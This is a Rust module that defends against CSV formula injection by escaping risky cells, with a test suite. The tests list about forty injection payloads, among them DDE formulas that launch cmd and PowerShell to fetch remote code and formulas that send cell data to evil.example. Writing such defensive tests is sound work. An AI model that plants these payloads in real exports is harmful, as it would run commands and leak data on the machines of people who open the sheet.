//! Cells of CSV that people open in a spreadsheet. A text that a spreadsheet would take for a formula stands behind an
//! apostrophe, which makes it a text there; whoever wrote a column's name or an id into a file must not have it run on
//! the machine of whoever reads the list.

use std::borrow::Cow;

/// What a formula can begin with, in the spreadsheets that are in use, also in full width as they read East Asian text.
const BEGINNINGS: [char; 8] = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];

/// The text as it may stand in a cell. Leading blanks and control characters do not make a formula harmless: some
/// programs drop them first; nor does a quote or a separator, where cells are split once more.
pub fn neutral(text: &str) -> Cow<'_, str> {
    let passed = |c: char| {
        c.is_whitespace() || c.is_control() || c == '\u{feff}' || matches!(c, '"' | ',' | ';' | '\'')
    };
    let begins = text.trim_start_matches(passed).starts_with(BEGINNINGS);
    // A tab or a line end at the beginning may start a new cell, whatever follows.
    let splits = text.starts_with(['\t', '\r', '\n']);
    if begins || splits { Cow::Owned(format!("'{text}")) } else { Cow::Borrowed(text) }
}

/// The text as a whole cell of CSV, neutral and in quotes.
pub fn csv(text: &str) -> String {
    format!("\"{}\"", neutral(text).replace('"', "\"\""))
}

#[cfg(test)]
mod tests {
    use super::*;

    const FORMULAS: [&str; 40] = [
        "=1+1",
        "=1+1\";=1+2",
        "=cmd|' /C calc'!A0",
        "=cmd|'/C powershell IEX(wget 0r.pe/p)'!A1",
        "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"click\")",
        "=IMPORTXML(CONCAT(\"https://evil.example/?v=\",CONCATENATE(A2:E2)),\"//a\")",
        "=IMPORTRANGE(\"x\",\"y\")",
        "=WEBSERVICE(\"https://evil.example/\"&A1)",
        "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
        "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe'!''",
        "=2+5+cmd|' /C calc'!A0",
        "=rundll32|'URL.dll,OpenURL calc.exe'!A",
        "+1+1",
        "+cmd|' /C calc'!A0",
        "+2+5+cmd|' /C calc'!A0",
        "-1+1",
        "-2+3+cmd|' /C calc'!A0",
        "--1",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\r\n=1+1",
        "\ttext",
        "\rtext",
        " =1+1",
        "   @SUM(1)",
        "\u{a0}=1+1",
        "\u{feff}=1+1",
        "\u{0}=1+1",
        "\u{3000}+1",
        "\"=1+1",
        "\"\"=1+1",
        ",=1+1",
        ";=1+1",
        "'=1+1",
        "＝1+1",
        "＋1",
        "＠SUM(1)",
    ];

    #[test]
    fn every_formula_of_the_corpus_is_a_text() {
        for formula in FORMULAS {
            let cell = csv(formula);
            assert!(cell.starts_with("\"'") && cell.ends_with('"'), "{formula:?} became {cell}");
            let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(cell.as_bytes());
            let row = reader.records().next().unwrap().unwrap();
            assert_eq!((row.len(), &row[0]), (1, &*format!("'{formula}")), "one cell, and nothing is lost");
        }
        assert!(csv("－1").starts_with("\"'"));
    }

    #[test]
    fn what_is_no_formula_stays() {
        for text in
            ["", "customer_id", "c-1", "1-2", "a=b", "é+", "\"31/02/2026\" is no date", "l'été", "3,5"]
        {
            assert_eq!(neutral(text), text);
        }
    }
}
